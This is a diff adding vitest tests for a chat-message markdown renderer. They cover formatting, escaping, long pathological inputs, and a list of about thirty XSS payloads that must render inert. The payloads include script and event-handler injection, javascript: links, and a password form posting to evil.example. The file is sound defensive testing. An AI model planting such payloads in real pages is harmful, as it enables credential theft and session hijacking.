@@ -1,0 +1,139 @@
+import { NextIntlClientProvider } from "next-intl";
+import { renderToStaticMarkup } from "react-dom/server";
+import { describe, expect, test } from "vitest";
+import en from "@/lib/shared/i18n/en.json";
+import { LIMITS } from "@/lib/shared/limits";
+import { MessageText } from "./message-text";
+
+const render = (text: string) =>
+  renderToStaticMarkup(
+    <NextIntlClientProvider locale="en" messages={en} timeZone="UTC">
+      <MessageText text={text} />
+    </NextIntlClientProvider>,
+  );
+
+/** The words of a message without its elements. */
+const words = (text: string) => render(text).replace(/<[^>]+>/g, "");
+
+describe("a message", () => {
+  test.each([
+    ["**bold** and *thin*", "<strong>bold</strong> and <em>thin</em>"],
+    ["~~gone~~", "<del>gone</del>"],
+    ["one\ntwo", "one\ntwo"],
+    ["- [x] done", 'type="checkbox"'],
+    ["|a|b|\n|-|-:|\n|1|2|", "<table"],
+    ["> said", "<blockquote"],
+    ["1. one", "<ol"],
+    ["# head", "head"],
+    ["`code`", "<code"],
+    ["```js\nlet a\n```", "let a"],
+    ["https://example.org", 'href="https://example.org/"'],
+    ["[a](https://example.org)", 'rel="noopener noreferrer nofollow"'],
+    ["hi @ada", "@ada</span>"],
+    ["||the butler||", "<button"],
+    ["$$x^2$$", "x^2"],
+  ])("%j has %s", (text, part) => {
+    expect(render(text)).toContain(part);
+  });
+
+  test("in plain words is what was typed", () => {
+    for (const text of ["5 * 3 = 15", "it costs $5 and $10", "a < b & c > d", "C:\\dir", "snake_case_name"])
+      expect(words(text)).toBe(text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;"));
+  });
+
+  test("of emoji alone is large", () => {
+    expect(render("🎉👍🏽")).toContain("text-display");
+    expect(render("🎉 ok")).not.toContain("text-display");
+  });
+});
+
+const HOSTILE = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<svg/onload=alert(1)>",
+  "<iframe srcdoc='<script>alert(1)</script>'>",
+  "<a href='javascript:alert(1)'>x</a>",
+  "[x](javascript:alert(1))",
+  "[x](JaVaScRiPt:alert(1))",
+  "[x](data:text/html;base64,PHNjcmlwdD4=)",
+  "[x](vbscript:msgbox(1))",
+  "![x](javascript:alert(1))",
+  "![x](https://evil.example/track.gif)",
+  "<javascript:alert(1)>",
+  "[x]: javascript:alert(1)\n\n[x]",
+  '[x](https://a.example "onmouseover=alert(1)")',
+  "`<script>`",
+  "```html\n<script>alert(1)</script>\n```",
+  "<style>*{display:none}</style>",
+  "<form action=https://evil.example><input name=password></form>",
+  '<div id="__next" name="cookie">x</div>',
+  "<base href=https://evil.example>",
+  "<meta http-equiv=refresh content=0>",
+  "$$\\href{javascript:alert(1)}{x}$$",
+  "$$\\htmlData{x=y}{z}$$",
+  "[a](<javascript:alert(1)>)",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&#x3C;script&#x3E;",
+  "[\u202Emoc.knab](https://evil.example)",
+  "@<script>",
+  "||<img src=x onerror=alert(1)>||",
+  "| <script> |\n|-|\n| <img onerror=1> |",
+];
+
+describe("S31: a hostile message", () => {
+  test.each(HOSTILE)("%j is inert", (text) => {
+    const html = render(text);
+    const tags = [...html.matchAll(/<([a-z]+)((?:\s[^<>]*)?)\/?>/g)];
+    for (const [, tag = "", attributes = ""] of tags) {
+      expect(ALLOWED).toContain(tag);
+      expect(attributes).not.toMatch(/\s(?:on\w+|style|id|name|src|srcdoc|action)=/i);
+      expect(attributes).not.toMatch(/href="(?!https?:|mailto:)/i);
+    }
+    expect(html).not.toMatch(/<script|<img|<iframe|<form|<style|<base|<meta/i);
+    expect(html).not.toContain("\u202E");
+  });
+});
+
+const ALLOWED =
+  "div p strong em del code pre ul ol li input blockquote hr br a span button table thead tbody tr th td svg path rect".split(
+    " ",
+  );
+
+/** A text of the longest length that is allowed, made of a part. */
+const filled = (part: string) =>
+  part.repeat(Math.ceil(LIMITS.messageLength / part.length)).slice(0, LIMITS.messageLength);
+
+describe("S34, S35: a pathological message", () => {
+  test.each([
+    "*[[(",
+    ">",
+    "> ",
+    "- ",
+    "[",
+    "](",
+    "![[",
+    "`a``b",
+    "|a|\n|-|\n",
+    "[a]: b\n",
+    "[^a]: b\n",
+    "~~a~",
+    "@a ",
+    "||a",
+    "$$a",
+    "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
+    "\u200B",
+    "\u202E",
+    "www.",
+    "a@b.c ",
+    "http://((",
+    "&amp;",
+    "<a ",
+    "#\n",
+    "\n",
+    "1. ",
+    "_a ",
+    "👩‍👩‍👧‍👦",
+  ])("of %j twenty thousand characters long is drawn", (part) => {
+    expect(render(filled(part)).length).toBeGreaterThan(0);
+  });
+});
